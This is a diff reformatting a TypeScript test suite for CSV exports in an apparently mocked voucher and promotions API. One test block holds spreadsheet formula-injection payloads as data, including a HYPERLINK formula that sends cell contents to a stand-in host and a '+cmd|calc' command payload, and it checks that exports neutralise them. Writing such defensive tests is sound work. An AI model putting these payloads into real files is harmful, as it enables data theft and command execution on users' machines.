@@ -35,11 +35,22 @@ const finished = async (exportId: string) => {
   return { url, text, table: parseCsv(text) };
 };
 
-const rowsOf = (table: ReturnType<typeof parseCsv>) => table.rows.map((row) => table.columns.map((column) => row.values[column]));
+const rowsOf = (table: ReturnType<typeof parseCsv>) =>
+  table.rows.map((row) => table.columns.map((column) => row.values[column]));
 
-const raw = (path: string, init: RequestInit = {}) => mock.raw(path, { ...init, headers: serverHeaders(mock.service, { 'content-type': 'application/json', ...(init.headers as Record<string, string> | undefined) }) });
+const raw = (path: string, init: RequestInit = {}) =>
+  mock.raw(path, {
+    ...init,
+    headers: serverHeaders(mock.service, {
+      'content-type': 'application/json',
+      ...(init.headers as Record<string, string> | undefined),
+    }),
+  });
 
-const errorOf = async (response: Response) => ({ status: response.status, body: (await response.json()) as Record<string, unknown> });
+const errorOf = async (response: Response) => ({
+  status: response.status,
+  body: (await response.json()) as Record<string, unknown>,
+});
 
 describe('exports: vouchers', () => {
   test('default columns are code, voucher_type, value and discount_type, headed by their labels, newest first', async () => {
@@ -48,7 +59,15 @@ describe('exports: vouchers', () => {
     mock.service.clock.advance(1000);
     vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 5000 }, code: 'GIFT-1' });
     const created = await createExport({ exported_object: 'voucher' });
-    expect(created).toMatchObject({ object: 'export', status: 'SCHEDULED', result: null, channel: 'API', user_id: null, exported_object: 'voucher', created_at: mock.service.clock.date().toISOString() });
+    expect(created).toMatchObject({
+      object: 'export',
+      status: 'SCHEDULED',
+      result: null,
+      channel: 'API',
+      user_id: null,
+      exported_object: 'voucher',
+      created_at: mock.service.clock.date().toISOString(),
+    });
     expect(created.id).toMatch(/^exp_/);
     expect(created.parameters?.fields).toEqual(['code', 'voucher_type', 'value', 'discount_type']);
     const { table } = await finished(created.id);
@@ -62,19 +81,37 @@ describe('exports: vouchers', () => {
 
   test('chosen columns in the order asked, metadata as JSON, filtered by metadata and active, sorted by code, within one campaign', async () => {
     const { vouchers, campaigns } = state();
-    const campaign = campaigns.create({ name: 'Spring', campaign_type: 'DISCOUNT_COUPONS', voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } } });
-    for (const [code, region, active] of [['B-2', 'north', true], ['A-1', 'north', true], ['C-3', 'south', true], ['D-4', 'north', false]] as const) {
+    const campaign = campaigns.create({
+      name: 'Spring',
+      campaign_type: 'DISCOUNT_COUPONS',
+      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
+    });
+    for (const [code, region, active] of [
+      ['B-2', 'north', true],
+      ['A-1', 'north', true],
+      ['C-3', 'south', true],
+      ['D-4', 'north', false],
+    ] as const) {
       const voucher = campaigns.addVouchers(campaign.id, { code, metadata: { region, note: 'has, comma' } }, 1);
       if (!active && 'code' in voucher) vouchers.setActive(voucher.id, false);
     }
-    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'OUTSIDE', metadata: { region: 'north' } });
+    vouchers.create({
+      type: 'DISCOUNT_VOUCHER',
+      discount: { type: 'AMOUNT', amount_off: 100 },
+      code: 'OUTSIDE',
+      metadata: { region: 'north' },
+    });
     const created = await createExport({
       exported_object: 'voucher',
       parameters: {
         campaign_id: campaign.id,
         fields: ['id', 'code', 'value', 'campaign', 'active', 'metadata'],
         order: 'code',
-        filters: { junction: 'and', 'metadata.region': { conditions: { $is: ['north'] } }, active: { conditions: { $is: ['true'] } } },
+        filters: {
+          junction: 'and',
+          'metadata.region': { conditions: { $is: ['north'] } },
+          active: { conditions: { $is: ['true'] } },
+        },
       },
     });
     const { table } = await finished(created.id);
@@ -87,7 +124,12 @@ describe('exports: vouchers', () => {
   });
   test('the header of the sample file (ID, Code, Voucher Type, Value); other columns by the same rule', async () => {
     state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2000 }, code: 'G-1' });
-    const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['id', 'code', 'voucher_type', 'value', 'campaign_id', 'validation_rules_id', 'is_referral_code'] } });
+    const created = await createExport({
+      exported_object: 'voucher',
+      parameters: {
+        fields: ['id', 'code', 'voucher_type', 'value', 'campaign_id', 'validation_rules_id', 'is_referral_code'],
+      },
+    });
     const { text, table } = await finished(created.id);
     expect(text.split('\r\n')[0]).toBe('ID,Code,Voucher Type,Value,Campaign ID,Validation Rules ID,Is Referral Code');
     expect(rowsOf(table)[0]?.slice(1)).toEqual(['G-1', 'GIFT_VOUCHER', '2000', '', '', 'false']);
@@ -95,32 +137,59 @@ describe('exports: vouchers', () => {
 
   test('a labelled file imports back: the voucher import reads the labels as its columns', async () => {
     state().vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 2500 }, code: 'ROUND-1' });
-    const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code', 'voucher_type', 'value'] } });
+    const created = await createExport({
+      exported_object: 'voucher',
+      parameters: { fields: ['code', 'voucher_type', 'value'] },
+    });
     const { text } = await finished(created.id);
     expect(text).toBe('Code,Voucher Type,Value\r\nROUND-1,GIFT_VOUCHER,2500\r\n');
     const form = new FormData();
     form.append('file', new Blob([text.replace('ROUND-1', 'ROUND-2')], { type: 'text/csv' }), 'vouchers.csv');
-    const response = await mock.raw('/v1/vouchers/importCSV', { method: 'POST', headers: serverHeaders(mock.service), body: form });
+    const response = await mock.raw('/v1/vouchers/importCSV', {
+      method: 'POST',
+      headers: serverHeaders(mock.service),
+      body: form,
+    });
     expect(response.status).toBe(202);
     await mock.service.scheduler.drain();
     expect(state().vouchers.get('ROUND-2')).toMatchObject({ type: 'GIFT_VOUCHER', gift: { amount: 2500 } });
   });
 
-  test('redemption_status filters on the voucher\'s wallet state when the rows are picked', async () => {
+  test("redemption_status filters on the voucher's wallet state when the rows are picked", async () => {
     const { vouchers } = state();
     const day = 24 * 60 * 60 * 1000;
     const now = mock.service.clock.now();
     vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'ACTIVE-1' });
     vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'OFF-1' });
     vouchers.setActive('OFF-1', false);
-    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'LATER-1', start_date: new Date(now + day).toISOString() });
-    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'SOON-GONE', expiration_date: new Date(now + day).toISOString() });
-    vouchers.create({ type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 }, code: 'ONCE-1', redemption: { quantity: 1 } });
+    vouchers.create({
+      type: 'DISCOUNT_VOUCHER',
+      discount: { type: 'AMOUNT', amount_off: 100 },
+      code: 'LATER-1',
+      start_date: new Date(now + day).toISOString(),
+    });
+    vouchers.create({
+      type: 'DISCOUNT_VOUCHER',
+      discount: { type: 'AMOUNT', amount_off: 100 },
+      code: 'SOON-GONE',
+      expiration_date: new Date(now + day).toISOString(),
+    });
+    vouchers.create({
+      type: 'DISCOUNT_VOUCHER',
+      discount: { type: 'AMOUNT', amount_off: 100 },
+      code: 'ONCE-1',
+      redemption: { quantity: 1 },
+    });
     vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 0 }, code: 'EMPTY-1' });
-    const redeemed = await client().POST('/v1/redemptions', { body: { redeemables: [{ object: 'voucher', id: 'ONCE-1' }], order: { amount: 1000 } } });
+    const redeemed = await client().POST('/v1/redemptions', {
+      body: { redeemables: [{ object: 'voucher', id: 'ONCE-1' }], order: { amount: 1000 } },
+    });
     expect(redeemed.response.status).toBe(200);
     const exportWith = async (filters: Record<string, unknown>) => {
-      const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code'], order: 'code', filters } });
+      const created = await createExport({
+        exported_object: 'voucher',
+        parameters: { fields: ['code'], order: 'code', filters },
+      });
       return rowsOf((await finished(created.id)).table).map(([code]) => code);
     };
     const status = (...values: string[]) => ({ redemption_status: { conditions: { $in: values } } });
@@ -130,19 +199,37 @@ describe('exports: vouchers', () => {
     expect(await exportWith(status('DISABLED'))).toEqual(['OFF-1']);
     expect(await exportWith(status('EXPIRED'))).toEqual(['SOON-GONE']);
     expect(await exportWith(status('USED', 'NO_BALANCE'))).toEqual(['EMPTY-1', 'ONCE-1']);
-    expect(await exportWith({ redemption_status: { conditions: { $is_not: ['ACTIVE'] } }, junction: 'and', code: { conditions: { $starts_with: ['O'] } } })).toEqual(['OFF-1', 'ONCE-1']);
+    expect(
+      await exportWith({
+        redemption_status: { conditions: { $is_not: ['ACTIVE'] } },
+        junction: 'and',
+        code: { conditions: { $starts_with: ['O'] } },
+      }),
+    ).toEqual(['OFF-1', 'ONCE-1']);
   });
 
   test('published_for_customer_id filters on the customer a voucher was published to', async () => {
     const { campaigns } = state();
-    campaigns.create({ name: 'Spring', campaign_type: 'DISCOUNT_COUPONS', vouchers_count: 3, voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } } });
+    campaigns.create({
+      name: 'Spring',
+      campaign_type: 'DISCOUNT_COUPONS',
+      vouchers_count: 3,
+      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
+    });
     await mock.service.scheduler.drain();
-    const publish = (sourceId: string) => client().POST('/v1/publications', { body: { campaign: { name: 'Spring' }, customer: { source_id: sourceId } } as never, params: { query: {} } });
+    const publish = (sourceId: string) =>
+      client().POST('/v1/publications', {
+        body: { campaign: { name: 'Spring' }, customer: { source_id: sourceId } } as never,
+        params: { query: {} },
+      });
     const toAna = (await publish('ana')).data?.voucher?.code;
     const toBen = (await publish('ben')).data?.voucher?.code;
     const ana = state().customers.get('ana').id;
     const exportWith = async (filters: Record<string, unknown>) => {
-      const created = await createExport({ exported_object: 'voucher', parameters: { fields: ['code', 'customer_id'], filters } });
+      const created = await createExport({
+        exported_object: 'voucher',
+        parameters: { fields: ['code', 'customer_id'], filters },
+      });
       return rowsOf((await finished(created.id)).table);
     };
     const ben = state().customers.get('ben').id;
@@ -165,14 +252,29 @@ describe('exports: spreadsheet formulas (decision 0034)', () => {
       description: '@SUM(1+1)',
       address: { city: 'a;=1+1', line_1: '\t=1', line_2: '-100' },
     });
-    const people = await createExport({ exported_object: 'customer', parameters: { fields: ['source_id', 'name', 'description', 'address_city', 'address_line_1', 'address_line_2'] } });
+    const people = await createExport({
+      exported_object: 'customer',
+      parameters: { fields: ['source_id', 'name', 'description', 'address_city', 'address_line_1', 'address_line_2'] },
+    });
     const { text, table } = await finished(people.id);
-    expect(text.split('\r\n')[1]).toBe('\'-2+3,"\'=HYPERLINK(""http://example.com/?""&A1,""open"")",\'@SUM(1+1),"a;=1+1",\'\t=1,-100');
-    expect(rowsOf(table)[0]).toEqual(['\'-2+3', '\'=HYPERLINK("http://example.com/?"&A1,"open")', '\'@SUM(1+1)', 'a;=1+1', '\'\t=1', '-100']);
+    expect(text.split('\r\n')[1]).toBe(
+      '\'-2+3,"\'=HYPERLINK(""http://example.com/?""&A1,""open"")",\'@SUM(1+1),"a;=1+1",\'\t=1,-100',
+    );
+    expect(rowsOf(table)[0]).toEqual([
+      "'-2+3",
+      '\'=HYPERLINK("http://example.com/?"&A1,"open")',
+      "'@SUM(1+1)",
+      'a;=1+1',
+      "'\t=1",
+      '-100',
+    ]);
 
     orders.upsert({ source_id: 'o-1', status: 'PAID', metadata: { payment_mean: -100 } });
     orders.upsert({ source_id: 'o-2', status: 'PAID', metadata: { payment_mean: '+cmd|calc' } });
-    const paid = await createExport({ exported_object: 'order', parameters: { fields: ['source_id', 'metadata.payment_mean'], order: 'created_at' } });
+    const paid = await createExport({
+      exported_object: 'order',
+      parameters: { fields: ['source_id', 'metadata.payment_mean'], order: 'created_at' },
+    });
     expect((await finished(paid.id)).text).toBe("source_id,metadata.payment_mean\r\no-1,-100\r\no-2,'+cmd|calc\r\n");
   });
 });
@@ -200,7 +302,11 @@ describe('exports: customers', () => {
     orders.upsert({ source_id: 'o-1', customer: 'ana', amount: 2500, status: 'PAID' });
     const created = await createExport({
       exported_object: 'customer',
-      parameters: { fields: ['source_id', 'email', 'address_city', 'orders_total_amount'], order: '-source_id', filters: { city: { conditions: { $is: ['Porto'] } } } },
+      parameters: {
+        fields: ['source_id', 'email', 'address_city', 'orders_total_amount'],
+        order: '-source_id',
+        filters: { city: { conditions: { $is: ['Porto'] } } },
+      },
     });
     const { table } = await finished(created.id);
     expect(rowsOf(table)).toEqual([
@@ -215,19 +321,35 @@ describe('exports: orders (POST /v1/orders/export)', () => {
     const { orders } = state();
     const order = orders.upsert({ source_id: 'o-1', amount: 1000, status: 'PAID' }).order;
     const { data } = await client().POST('/v1/orders/export', { body: {} });
-    expect(data).toMatchObject({ object: 'export', status: 'SCHEDULED', exported_object: 'order', result: null, parameters: { fields: ['id', 'source_id', 'status'] } });
+    expect(data).toMatchObject({
+      object: 'export',
+      status: 'SCHEDULED',
+      exported_object: 'order',
+      result: null,
+      parameters: { fields: ['id', 'source_id', 'status'] },
+    });
     const { table } = await finished(data?.id ?? '');
     expect(rowsOf(table)).toEqual([[order.id, 'o-1', 'PAID']]);
   });
 
   test('chosen columns, a status filter and the oldest first', async () => {
     const { orders } = state();
-    for (const [source_id, status, amount] of [['o-1', 'PAID', 1000], ['o-2', 'CREATED', 2000], ['o-3', 'PAID', 3000]] as const) {
+    for (const [source_id, status, amount] of [
+      ['o-1', 'PAID', 1000],
+      ['o-2', 'CREATED', 2000],
+      ['o-3', 'PAID', 3000],
+    ] as const) {
       orders.upsert({ source_id, status, amount, metadata: { payment_mean: 'card' } });
       mock.service.clock.advance(1000);
     }
     const { data } = await client().POST('/v1/orders/export', {
-      body: { parameters: { fields: ['source_id', 'amount', 'metadata.payment_mean'], order: 'created_at', filters: { junction: 'and', status: { conditions: { $in: ['PAID'] } } } } },
+      body: {
+        parameters: {
+          fields: ['source_id', 'amount', 'metadata.payment_mean'],
+          order: 'created_at',
+          filters: { junction: 'and', status: { conditions: { $in: ['PAID'] } } },
+        },
+      },
     });
     const { table } = await finished(data?.id ?? '');
     expect(table.columns).toEqual(['source_id', 'amount', 'metadata.payment_mean']);
@@ -241,7 +363,11 @@ describe('exports: orders (POST /v1/orders/export)', () => {
 describe('exports: card transactions', () => {
   const giftCards = () => {
     const { vouchers, campaigns } = state();
-    const campaign = campaigns.create({ name: 'Gifts', campaign_type: 'GIFT_VOUCHERS', voucher: { type: 'GIFT_VOUCHER', gift: { amount: 1000 } } });
+    const campaign = campaigns.create({
+      name: 'Gifts',
+      campaign_type: 'GIFT_VOUCHERS',
+      voucher: { type: 'GIFT_VOUCHER', gift: { amount: 1000 } },
+    });
     campaigns.addVouchers(campaign.id, { code: 'G-1' }, 1);
     campaigns.addVouchers(campaign.id, { code: 'G-2' }, 1);
     vouchers.create({ type: 'GIFT_VOUCHER', gift: { amount: 1000 }, code: 'LONE' });
@@ -256,8 +382,15 @@ describe('exports: card transactions', () => {
 
   test('of one card (POST /v1/vouchers/{code}/transactions/export): default columns, newest first', async () => {
     giftCards();
-    const { data } = await client().POST('/v1/vouchers/{code}/transactions/export', { params: { path: { code: 'G-1' } }, body: {} });
-    expect(data).toMatchObject({ status: 'SCHEDULED', exported_object: 'voucher_transactions', parameters: { filters: { voucher_id: { conditions: { $in: [state().vouchers.get('G-1').id] } } } } });
+    const { data } = await client().POST('/v1/vouchers/{code}/transactions/export', {
+      params: { path: { code: 'G-1' } },
+      body: {},
+    });
+    expect(data).toMatchObject({
+      status: 'SCHEDULED',
+      exported_object: 'voucher_transactions',
+      parameters: { filters: { voucher_id: { conditions: { $in: [state().vouchers.get('G-1').id] } } } },
+    });
     const { table } = await finished(data?.id ?? '');
     expect(table.columns).toEqual(['id', 'type', 'source_id', 'reason', 'source', 'balance', 'amount', 'created_at']);
     expect(rowsOf(table).map((row) => [row[1], row[3], row[5], row[6]])).toEqual([
@@ -286,7 +419,11 @@ describe('exports: card transactions', () => {
     giftCards();
     const created = await createExport({
       exported_object: 'voucher_transactions',
-      parameters: { fields: ['reason', 'amount'], order: 'created_at', filters: { created_at: { conditions: { $after: ['2026-01-01T00:00:00.500Z'] } } } },
+      parameters: {
+        fields: ['reason', 'amount'],
+        order: 'created_at',
+        filters: { created_at: { conditions: { $after: ['2026-01-01T00:00:00.500Z'] } } },
+      },
     });
     const { table } = await finished(created.id);
     expect(rowsOf(table)).toEqual([
@@ -297,10 +434,16 @@ describe('exports: card transactions', () => {
   });
 
   test('an unknown card or campaign answers 404', async () => {
-    const card = await client().POST('/v1/vouchers/{code}/transactions/export', { params: { path: { code: 'NOPE' } }, body: {} });
+    const card = await client().POST('/v1/vouchers/{code}/transactions/export', {
+      params: { path: { code: 'NOPE' } },
+      body: {},
+    });
     expect(card.response.status).toBe(404);
     expect(card.error).toMatchObject({ key: 'not_found', resource_type: 'voucher', resource_id: 'NOPE' });
-    const campaign = await client().POST('/v1/campaigns/{campaignId}/transactions/export', { params: { path: { campaignId: 'camp_nope' } }, body: {} });
+    const campaign = await client().POST('/v1/campaigns/{campaignId}/transactions/export', {
+      params: { path: { campaignId: 'camp_nope' } },
+      body: {},
+    });
     expect(campaign.response.status).toBe(404);
     expect(campaign.error).toMatchObject({ key: 'not_found', resource_type: 'campaign' });
   });
@@ -309,11 +452,26 @@ describe('exports: card transactions', () => {
 describe('exports: publications', () => {
   test('one row per published code with the default columns, filtered by campaign, newest first; a chosen order and columns', async () => {
     const { campaigns } = state();
-    campaigns.create({ name: 'Spring', campaign_type: 'DISCOUNT_COUPONS', vouchers_count: 3, voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } } });
-    campaigns.create({ name: 'Other', campaign_type: 'DISCOUNT_COUPONS', vouchers_count: 1, voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 } } });
+    campaigns.create({
+      name: 'Spring',
+      campaign_type: 'DISCOUNT_COUPONS',
+      vouchers_count: 3,
+      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 } },
+    });
+    campaigns.create({
+      name: 'Other',
+      campaign_type: 'DISCOUNT_COUPONS',
+      vouchers_count: 1,
+      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 100 } },
+    });
     await mock.service.scheduler.drain();
-    const publish = (body: Record<string, unknown>) => client().POST('/v1/publications', { body: body as never, params: { query: {} } });
-    const first = await publish({ campaign: { name: 'Spring', count: 2 }, customer: { source_id: 'ana' }, channel: 'Email' });
+    const publish = (body: Record<string, unknown>) =>
+      client().POST('/v1/publications', { body: body as never, params: { query: {} } });
+    const first = await publish({
+      campaign: { name: 'Spring', count: 2 },
+      customer: { source_id: 'ana' },
+      channel: 'Email',
+    });
     mock.service.clock.advance(1000);
     await publish({ campaign: { name: 'Other' }, customer: { source_id: 'ben' } });
     mock.service.clock.advance(1000);
@@ -322,7 +480,10 @@ describe('exports: publications', () => {
     const benCode = last.data?.voucher?.code;
     const customerId = (sourceId: string) => state().customers.get(sourceId).id;
 
-    const byCampaign = await createExport({ exported_object: 'publication', parameters: { filters: { junction: 'and', campaign: { conditions: { $is: ['Spring'] } } } } });
+    const byCampaign = await createExport({
+      exported_object: 'publication',
+      parameters: { filters: { junction: 'and', campaign: { conditions: { $is: ['Spring'] } } } },
+    });
     const { table } = await finished(byCampaign.id);
     expect(table.columns).toEqual(['voucher_code', 'customer_id', 'date', 'channel']);
     expect(rowsOf(table).map(([code, customer, , channel]) => [code, customer, channel])).toEqual([
@@ -331,28 +492,55 @@ describe('exports: publications', () => {
       ...[...anaCodes].reverse().map((code) => [code, customerId('ana'), 'Email']),
     ]);
 
-    const chosen = await createExport({ exported_object: 'publication', parameters: { fields: ['customer_source_id', 'campaign'], order: 'created_at' } });
-    expect(rowsOf((await finished(chosen.id)).table)).toEqual([['ana', 'Spring'], ['ana', 'Spring'], ['ben', 'Other'], ['ben', 'Spring']]);
+    const chosen = await createExport({
+      exported_object: 'publication',
+      parameters: { fields: ['customer_source_id', 'campaign'], order: 'created_at' },
+    });
+    expect(rowsOf((await finished(chosen.id)).table)).toEqual([
+      ['ana', 'Spring'],
+      ['ana', 'Spring'],
+      ['ben', 'Other'],
+      ['ben', 'Spring'],
+    ]);
   });
 });
 
 describe('exports: redemptions', () => {
   test('one row per redemption, failure and rollback with the default columns, newest first; chosen columns, filters and order', async () => {
     const { vouchers, campaigns, customers } = state();
-    const spring = campaigns.create({ name: 'Spring', campaign_type: 'DISCOUNT_COUPONS', voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 }, redemption: { quantity: 1 } } });
+    const spring = campaigns.create({
+      name: 'Spring',
+      campaign_type: 'DISCOUNT_COUPONS',
+      voucher: { type: 'DISCOUNT_VOUCHER', discount: { type: 'AMOUNT', amount_off: 500 }, redemption: { quantity: 1 } },
+    });
     vouchers.create({ code: 'SPRING-1', campaign: spring.name } as never);
     vouchers.create({ code: 'GIFT-1', type: 'GIFT_VOUCHER', gift: { amount: 5000 } } as never);
     customers.upsert({ source_id: 'ana', name: 'Ana' });
     const redeem = (body: Record<string, unknown>) => client().POST('/v1/redemptions', { body: body as never });
-    const first = await redeem({ redeemables: [{ object: 'voucher', id: 'SPRING-1' }], order: { id: undefined, amount: 2000 }, customer: { source_id: 'ana' }, metadata: { shop: 'web' } });
+    const first = await redeem({
+      redeemables: [{ object: 'voucher', id: 'SPRING-1' }],
+      order: { id: undefined, amount: 2000 },
+      customer: { source_id: 'ana' },
+      metadata: { shop: 'web' },
+    });
     mock.service.clock.advance(1000);
-    const failed = await redeem({ redeemables: [{ object: 'voucher', id: 'SPRING-1' }], order: { amount: 2000 }, customer: { source_id: 'ana' } });
+    const failed = await redeem({
+      redeemables: [{ object: 'voucher', id: 'SPRING-1' }],
+      order: { amount: 2000 },
+      customer: { source_id: 'ana' },
+    });
     expect(failed.response.status).toBe(400);
     mock.service.clock.advance(1000);
-    const gift = await redeem({ redeemables: [{ object: 'voucher', id: 'GIFT-1', gift: { credits: 1500 } }], order: { amount: 1500 } });
+    const gift = await redeem({
+      redeemables: [{ object: 'voucher', id: 'GIFT-1', gift: { credits: 1500 } }],
+      order: { amount: 1500 },
+    });
     mock.service.clock.advance(1000);
     const giftRedemption = gift.data?.redemptions?.[0]?.id ?? '';
-    const rollback = await client().POST('/v1/redemptions/{redemptionId}/rollback', { params: { path: { redemptionId: giftRedemption }, query: {} }, body: {} });
+    const rollback = await client().POST('/v1/redemptions/{redemptionId}/rollback', {
+      params: { path: { redemptionId: giftRedemption }, query: {} },
+      body: {},
+    });
     const springRedemption = first.data?.redemptions?.[0];
     const ana = customers.get('ana');
 
@@ -362,13 +550,31 @@ describe('exports: redemptions', () => {
     const rows = rowsOf(table);
     // Newest first: the rollback, the gift card's redemption and its parent, the failure, Spring's redemption and its parent.
     expect(rows[0]).toEqual([rollback.data?.id, 'redemption_rollback', 'GIFT-1', '', expect.any(String), 'SUCCESS']);
-    expect(rows.filter((row) => row[5] === 'FAILURE')).toEqual([[expect.stringMatching(/^rf_/), 'redemption', 'SPRING-1', ana.id, expect.any(String), 'FAILURE']]);
-    expect(rows).toContainEqual([springRedemption?.id, 'redemption', 'SPRING-1', ana.id, springRedemption?.date, 'SUCCESS']);
+    expect(rows.filter((row) => row[5] === 'FAILURE')).toEqual([
+      [expect.stringMatching(/^rf_/), 'redemption', 'SPRING-1', ana.id, expect.any(String), 'FAILURE'],
+    ]);
+    expect(rows).toContainEqual([
+      springRedemption?.id,
+      'redemption',
+      'SPRING-1',
+      ana.id,
+      springRedemption?.date,
+      'SUCCESS',
+    ]);
 
     const chosen = await createExport({
       exported_object: 'redemption',
       parameters: {
-        fields: ['voucher_code', 'campaign', 'customer_source_id', 'customer_name', 'order_amount', 'result', 'failure_code', 'metadata'],
+        fields: [
+          'voucher_code',
+          'campaign',
+          'customer_source_id',
+          'customer_name',
+          'order_amount',
+          'result',
+          'failure_code',
+          'metadata',
+        ],
         order: 'created_at',
         filters: { junction: 'and', campaign: { conditions: { $is: ['Spring'] } } },
       },
@@ -379,7 +585,14 @@ describe('exports: redemptions', () => {
       ['SPRING-1', 'Spring', 'ana', 'Ana', '', 'FAILURE', 'quantity_exceeded', ''],
     ]);
 
-    const giftRows = await createExport({ exported_object: 'redemption', parameters: { fields: ['object', 'gift_amount'], order: 'created_at', filters: { junction: 'and', voucher: { conditions: { $is: ['GIFT-1'] } } } } });
+    const giftRows = await createExport({
+      exported_object: 'redemption',
+      parameters: {
+        fields: ['object', 'gift_amount'],
+        order: 'created_at',
+        filters: { junction: 'and', voucher: { conditions: { $is: ['GIFT-1'] } } },
+      },
+    });
     expect(rowsOf((await finished(giftRows.id)).table)).toEqual([
       ['redemption', '1500'],
       ['redemption_rollback', '-1500'],
@@ -396,7 +609,12 @@ describe('exports: API log', () => {
     mock.service.clock.advance(1000);
     const browser = await mock.raw('/client/v1/qualifications', {
       method: 'POST',
-      headers: { 'X-Client-Application-Id': keys.clientAppId, 'X-Client-Token': keys.clientToken, origin: 'https://shop.example.com', 'content-type': 'application/json' },
+      headers: {
+        'X-Client-Application-Id': keys.clientAppId,
+        'X-Client-Token': keys.clientToken,
+        origin: 'https://shop.example.com',
+        'content-type': 'application/json',
+      },
       body: JSON.stringify({ order: { amount: 1000 } }),
     });
     expect(browser.status).toBe(200);
@@ -408,12 +626,14 @@ describe('exports: API log', () => {
     const { table } = await finished(all.id);
     expect(table.columns).toEqual(['id', 'created_at', 'status', 'channel', 'method', 'endpoint']);
     // The export's own request is the newest; the other project's request is not there.
-    expect(rowsOf(table).map(([, , status, channel, method, endpoint]) => [status, channel, method, endpoint])).toEqual([
-      ['200', 'API', 'POST', '/v1/exports'],
-      ['200', 'CLIENT_API', 'POST', '/client/v1/qualifications'],
-      ['404', 'API', 'GET', '/v1/categories/{categoryId}'],
-      ['200', 'API', 'POST', '/v1/categories'],
-    ]);
+    expect(rowsOf(table).map(([, , status, channel, method, endpoint]) => [status, channel, method, endpoint])).toEqual(
+      [
+        ['200', 'API', 'POST', '/v1/exports'],
+        ['200', 'CLIENT_API', 'POST', '/client/v1/qualifications'],
+        ['404', 'API', 'GET', '/v1/categories/{categoryId}'],
+        ['200', 'API', 'POST', '/v1/categories'],
+      ],
+    );
 
     const chosen = await createExport({
       exported_object: 'api_log',
@@ -434,11 +654,20 @@ describe('exports: API log', () => {
       expect.stringContaining('"key":"not_found"'),
     ]);
 
-    const fromBrowsers = await createExport({ exported_object: 'api_log', parameters: { fields: ['client_app_id', 'request_body'], filters: { junction: 'and', channel: { conditions: { $in: ['CLIENT_API'] } } } } });
+    const fromBrowsers = await createExport({
+      exported_object: 'api_log',
+      parameters: {
+        fields: ['client_app_id', 'request_body'],
+        filters: { junction: 'and', channel: { conditions: { $in: ['CLIENT_API'] } } },
+      },
+    });
     // The body as the mock read it, with the defaults the spec fills in.
-    expect(rowsOf((await finished(fromBrowsers.id)).table)).toEqual([[keys.clientAppId, '{"order":{"amount":1000},"scenario":"ALL"}']]);
+    expect(rowsOf((await finished(fromBrowsers.id)).table)).toEqual([
+      [keys.clientAppId, '{"order":{"amount":1000},"scenario":"ALL"}'],
+    ]);
     const durations = await createExport({ exported_object: 'api_log', parameters: { fields: ['request_duration'] } });
-    for (const [duration] of rowsOf((await finished(durations.id)).table)) expect(Number(duration)).toBeGreaterThanOrEqual(0);
+    for (const [duration] of rowsOf((await finished(durations.id)).table))
+      expect(Number(duration)).toBeGreaterThanOrEqual(0);
   });
 });
 
@@ -515,14 +744,25 @@ describe('exports: download', () => {
     const { url, id } = await done();
     const unknown = new URL(url);
     unknown.pathname = '/v1/exports/exp_0000000000000000aa';
-    expect((await errorOf(await fetch(unknown))).body).toMatchObject({ code: 404, key: 'not_found', resource_type: 'export' });
+    expect((await errorOf(await fetch(unknown))).body).toMatchObject({
+      code: 404,
+      key: 'not_found',
+      resource_type: 'export',
+    });
     const other = mock.service.projects.create({ name: 'Other' });
-    const { status } = await errorOf(await fetch(`${mock.service.baseUrl}/v1/exports/${id}`, { headers: { 'X-App-Id': other.keys.appId, 'X-App-Token': other.keys.appToken } }));
+    const { status } = await errorOf(
+      await fetch(`${mock.service.baseUrl}/v1/exports/${id}`, {
+        headers: { 'X-App-Id': other.keys.appId, 'X-App-Token': other.keys.appToken },
+      }),
+    );
     expect(status).toBe(404);
   });
 
   test('under a base URL with a path, result.url keeps the path and the download answers there', async () => {
-    const service = createMockService({ baseUrl: 'https://mock.example/api/', clock: { frozenAt: '2026-01-01T00:00:00.000Z' } });
+    const service = createMockService({
+      baseUrl: 'https://mock.example/api/',
+      clock: { frozenAt: '2026-01-01T00:00:00.000Z' },
+    });
     const { exports, customers } = service.projects.primary.state;
     customers.upsert({ source_id: 'ana' });
     const created = exports.create('customer', { fields: ['source_id'] });
@@ -566,7 +806,13 @@ describe('exports: list and delete', () => {
     expect((await client().GET('/v1/exports')).data?.total).toBe(0);
     expect((await errorOf(await fetch(url))).status).toBe(404);
     const again = await client().DELETE('/v1/exports/{exportId}', { params: { path: { exportId: created.id } } });
-    expect(again.error).toMatchObject({ code: 404, key: 'not_found', resource_type: 'export', resource_id: created.id, details: `Cannot find export with id ${created.id}` });
+    expect(again.error).toMatchObject({
+      code: 404,
+      key: 'not_found',
+      resource_type: 'export',
+      resource_id: created.id,
+      details: `Cannot find export with id ${created.id}`,
+    });
   });
 
   test('a job whose export was deleted before it ran leaves nothing behind', async () => {
@@ -579,19 +825,39 @@ describe('exports: list and delete', () => {
 
